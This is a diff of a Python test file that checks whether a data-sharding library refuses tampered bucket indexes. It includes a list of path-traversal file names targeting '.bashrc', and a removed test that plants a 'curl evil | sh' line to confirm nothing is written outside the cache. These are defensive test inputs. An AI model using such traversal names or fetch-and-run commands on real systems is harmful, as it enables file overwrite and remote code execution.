@@ -1,6 +1,7 @@
 """An index is what anybody who may write to the bucket has written: no name, number or checksum of it is believed."""
 
 import hashlib
+import io
 import json
 import shutil
 from collections.abc import Callable, Iterator
@@ -16,12 +17,8 @@ from must.data.format.index import load_index, parse_index
 from must.data.format.samples import load_offsets
 from must.data.loading.cache import ShardCache
 from must.data.loading.reader import open_reader
-from must.data.shards.chunk import npy
 from must.data.shards.history import History
-from tests import zoo
-from tests.data.shards.test_shard import run, sharded
-from tests.data.shards.test_shard_gcs import upload
-from tests.stores import Server, plant
+from tests.data.shards.test_shard import sharded
 
 NAMES = ["/{home}/.bashrc", "../home/.bashrc", "a/../../home/.bashrc", "train-000000.tar/../../x", "", "x\0.npy"]
 
@@ -31,6 +28,12 @@ def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
     folder = tmp_path_factory.mktemp("foreign")
     sharded(folder, 12, samples_per_shard=5)
     return folder / "out"
+
+
+def npy(values: np.ndarray) -> bytes:
+    buffer = io.BytesIO()
+    np.save(buffer, values)
+    return buffer.getvalue()
 
 
 def edited(folder: Path | str, edit: Callable[[dict[str, Any]], object]) -> bytes:
@@ -76,7 +79,7 @@ def test_what_no_index_of_ours_holds_is_refused_in_one_line(made: Path, name: st
 
 
 FREE = (
-    "test_uri", "files", "labels", "samples_per_shard", "split", "quality", "validate", "max_bytes", "drop_duplicates"
+    "test_uri", "files", "labels", "samples_per_shard", "split", "quality", "max_bytes", "drop_duplicates"
 )  # fmt: skip
 
 
@@ -113,24 +116,6 @@ def test_what_is_no_index_at_all_is_refused_in_one_line(data: bytes) -> None:
     assert str(error.value).isprintable()
 
 
-def test_a_table_of_a_bucket_cannot_be_written_elsewhere(
-    bucket_server: Server, made: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    """Through `must shard --append` from end to end: the name was joined to a local folder, and the object exists."""
-    home = tmp_path / "home"
-    home.mkdir()
-    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
-    upload(made, bucket_server.uri)
-    evil = f"{home}/.bashrc"
-    plant(bucket_server.uri + "/" + evil, b"curl evil | sh\n")
-    data = edited(bucket_server.uri, lambda c: c.update(tables=[{"name": evil, "sha256": "0" * 64}]))
-    storage.write_bytes(bucket_server.uri + "/index.json", data)
-    zoo.fill(tmp_path / "new", 3, start=100)
-    with pytest.raises(ValueError, match="not a valid table name"):
-        run(tmp_path / "new", bucket_server.uri, append=True)
-    assert not any(home.iterdir()) and not list(tmp_path.glob("**/.bashrc"))
-
-
 def test_a_link_in_the_cache_is_not_followed(made: Path, tmp_path: Path) -> None:
     shard, cache = load_index(str(made)).shards[0], ShardCache(tmp_path / "cache", 10**9)
     (tmp_path / "thesis").write_bytes(b"mine")
@@ -154,7 +139,7 @@ def test_no_more_is_downloaded_than_the_index_says(made: Path, tmp_path: Path, m
     assert set(seen) == {shard.bytes}
 
 
-DAMAGED = r"names-0000\.npy is missing or damaged; without it --append"
+DAMAGED = r"names-0000\.npy is damaged.*; without it --append"
 TABLES = {
     "other bytes": ("names", npy(np.zeros(12, np.uint64)), "0" * 64, DAMAGED),
     "floats": ("names", npy(np.zeros(12, np.float64)), "", DAMAGED),
